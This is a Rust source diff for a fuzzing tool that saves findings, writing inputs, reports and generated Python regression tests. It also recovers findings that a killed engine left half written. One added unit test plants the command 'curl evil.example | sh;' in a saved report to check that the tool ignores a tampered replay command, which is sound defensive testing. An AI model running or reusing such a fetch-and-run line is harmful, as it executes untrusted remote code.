@@ -8,11 +8,13 @@ use std::path::{Path, PathBuf};
 
 use super::kept::Index;
 use super::report::{Described, Report};
-use crate::campaign::replace_file;
+use crate::campaign::manifest::SETUP;
+use crate::disk;
 
 /// Writes a finding unless `index` has one of the same kind and signature. Says where it lies and whether it is
 /// new. `report.input` and `report.replay` are set to where the input comes to lie and to `hitmap` followed by its
-/// path; `flags` are for `hitmap replay` where no campaign tells them.
+/// path; `flags` are for `hitmap replay` where no campaign tells them. `setup` is the campaign's manifest, which
+/// goes along wherever the finding is copied.
 ///
 /// # Errors
 /// What the file system reports.
@@ -23,6 +25,7 @@ pub fn save(
     coverage: Option<&[u8]>,
     hitmap: &str,
     flags: &[String],
+    setup: &[u8],
 ) -> io::Result<(PathBuf, bool)> {
     let report = &mut described.report;
     if let Some(folder) = index.find(report) {
@@ -32,26 +35,26 @@ pub fn save(
     report.input = folder.join("input").to_string_lossy().into_owned();
     report.input_len = input.len();
     report.replay = replay(hitmap, &report.input);
-    let making = index.findings().join(crate::campaign::making(&report.signature));
-    std::fs::create_dir_all(&making)?;
+    let making = disk::new_folder(index.findings())?;
+    let write = |name: &str, content: &[u8]| disk::replace(&making.join(name), content);
     // First, because of all that a killed engine leaves it is what cannot be made again.
-    std::fs::write(making.join("input"), input)?;
-    std::fs::write(making.join("report.json"), serde_json::to_vec_pretty(report).map_err(io::Error::other)?)?;
-    std::fs::write(making.join("traceback.txt"), &described.traceback)?;
-    std::fs::write(making.join(format!("test_{}.py", report.signature)), regression_test(report, flags))?;
+    write("input", input)?;
+    write("traceback.txt", described.traceback.as_bytes())?;
+    write(SETUP, setup)?;
+    let test = regression_test(report, &python_string(&report.harness), flags);
+    write(&format!("test_{}.py", report.signature), test.as_bytes())?;
     if let Some(coverage) = coverage {
-        std::fs::write(making.join("coverage.hitmap"), coverage)?;
+        write("coverage.hitmap", coverage)?;
     }
-    for entry in std::fs::read_dir(&making)? {
-        std::fs::File::open(entry?.path())?.sync_all()?;
-    }
+    // Last, because it says that the rest is there.
+    write("report.json", &serde_json::to_vec_pretty(report).map_err(io::Error::other)?)?;
     match std::fs::rename(&making, &folder) {
         Ok(()) => Ok((folder, true)),
         Err(_) if folder.exists() => {
             std::fs::remove_dir_all(&making)?;
             Ok((folder, false))
         }
-        Err(e) => Err(e),
+        Err(e) => Err(disk::at(&folder)(e)),
     }
 }
 
@@ -61,23 +64,24 @@ pub fn save(
 /// What the file system reports.
 pub fn renew(folder: &Path, described: &Described, coverage: Option<&[u8]>, flags: &[String]) -> io::Result<()> {
     let report = &described.report;
-    let tests = std::fs::read_dir(folder)?.flatten().map(|entry| entry.file_name().to_string_lossy().into_owned());
-    if !tests.into_iter().any(|name| name.starts_with("test_") && name.ends_with(".py")) {
-        let test = folder.join(format!("test_{}.py", report.signature));
-        replace_file(&test, regression_test(report, flags).as_bytes())?;
+    let files = std::fs::read_dir(folder).map_err(disk::at(folder))?;
+    let mut names = files.flatten().map(|entry| entry.file_name().to_string_lossy().into_owned());
+    if !names.any(|name| name.starts_with("test_") && name.ends_with(".py")) {
+        let test = regression_test(report, &python_string(&report.harness), flags);
+        disk::replace(&folder.join(format!("test_{}.py", report.signature)), test.as_bytes())?;
     }
     if !described.traceback.is_empty() {
-        replace_file(&folder.join("traceback.txt"), described.traceback.as_bytes())?;
+        disk::replace(&folder.join("traceback.txt"), described.traceback.as_bytes())?;
     }
     if let Some(coverage) = coverage {
-        replace_file(&folder.join("coverage.hitmap"), coverage)?;
+        disk::replace(&folder.join("coverage.hitmap"), coverage)?;
     }
     let path = folder.join("report.json");
     if path.is_dir() {
-        std::fs::remove_dir(&path)?;
+        std::fs::remove_dir(&path).map_err(disk::at(&path))?;
     }
     // Last, because it says that the rest is there.
-    replace_file(&path, &serde_json::to_vec_pretty(report).map_err(io::Error::other)?)
+    disk::replace(&path, &serde_json::to_vec_pretty(report).map_err(io::Error::other)?)
 }
 
 /// Finishes what a killed engine left of a finding that it was writing: a whole one gets its name. Of any other the
@@ -86,7 +90,7 @@ pub fn renew(folder: &Path, described: &Described, coverage: Option<&[u8]>, flag
 /// # Errors
 /// What the file system reports.
 pub fn recover(index: &mut Index, left: &Path) -> io::Result<Option<Vec<u8>>> {
-    let input = std::fs::read(left.join("input")).unwrap_or_default();
+    let input = disk::read(&left.join("input"), disk::LONGEST_INPUT).unwrap_or_default();
     let report = super::kept::read(left).ok().filter(|report| report.input_len == input.len());
     match report {
         Some(report) if index.find(&report).is_none() => {
@@ -109,19 +113,24 @@ pub fn shell_quote(text: &str) -> String {
     if !text.is_empty() && text.chars().all(plain) { text.into() } else { format!("'{}'", text.replace('\'', r"'\''")) }
 }
 
-/// It carries the campaign's flags along, because it may be copied to where no campaign is.
-fn regression_test(report: &Report, flags: &[String]) -> String {
-    // A JSON string is a Python string: JSON escapes nothing that Python reads differently.
-    let quote = |text: &str| serde_json::Value::from(text).to_string();
-    let flags: String = flags.iter().map(|flag| format!(", {}", quote(flag))).collect();
+/// Text as Python spells it. A JSON string is a Python string: JSON escapes nothing that Python reads
+/// differently.
+pub fn python_string(text: &str) -> String {
+    serde_json::Value::from(text).to_string()
+}
+
+/// A test that fails for as long as the bug is there. `harness` is a Python expression, which may use `HERE`,
+/// the test's own folder. It carries the campaign's flags along, because it may be copied to where no
+/// campaign is.
+pub fn regression_test(report: &Report, harness: &str, flags: &[String]) -> String {
+    let flags: String = flags.iter().map(|flag| format!(", {}", python_string(flag))).collect();
     format!(
         "\"\"\"Fails for as long as the bug is there.\n\n{}\n\"\"\"\n\nimport pathlib\nimport subprocess\nimport sys\n\n\
-         HARNESS = {}\nINPUT = pathlib.Path(__file__).with_name(\"input\")\n\n\n\
+         HERE = pathlib.Path(__file__).resolve().parent\nHARNESS = {harness}\nINPUT = HERE / \"input\"\n\n\n\
          def test_{}():\n    command = [sys.executable, \"-m\", \"hitmap\", \"replay\", str(INPUT), \"--harness\", HARNESS{flags}]\n    \
          run = subprocess.run(command, capture_output=True, text=True)\n    \
          assert run.returncode == 0, run.stdout + run.stderr\n",
-        report.title.replace('\\', "\\\\").replace('"', "'"),
-        quote(&report.harness),
+        crate::print::plain(&report.title).replace('\\', "\\\\").replace('"', "'"),
         report.signature
     )
 }
@@ -137,7 +146,7 @@ mod tests {
     }
 
     fn keep(findings: &Path, signature: &str, input: &[u8]) -> (PathBuf, bool) {
-        save(&mut Index::new(findings.into()), described(signature), input, None, "hitmap", &[]).unwrap()
+        save(&mut Index::new(findings.into()), described(signature), input, None, "hitmap", &[], b"{}").unwrap()
     }
 
     #[test]
@@ -161,6 +170,17 @@ mod tests {
         let input = after.join("signal-aa/input").to_string_lossy().into_owned();
         let found = all(&after, "hitmap").unwrap().remove(0);
         assert_eq!((found.replay, found.input), (format!("hitmap replay '{input}'"), input));
+    }
+
+    #[test]
+    fn the_command_is_ours_whatever_a_report_says() {
+        let folder = tempfile::tempdir().unwrap();
+        let (path, _) = keep(folder.path(), "aa", b"one");
+        let report = path.join("report.json");
+        let text = std::fs::read_to_string(&report).unwrap();
+        std::fs::write(&report, text.replace("hitmap replay", "curl evil.example | sh;")).unwrap();
+        let found = all(folder.path(), "hitmap").unwrap().remove(0);
+        assert_eq!(found.replay, format!("hitmap replay {}", path.join("input").display()));
     }
 
     #[test]
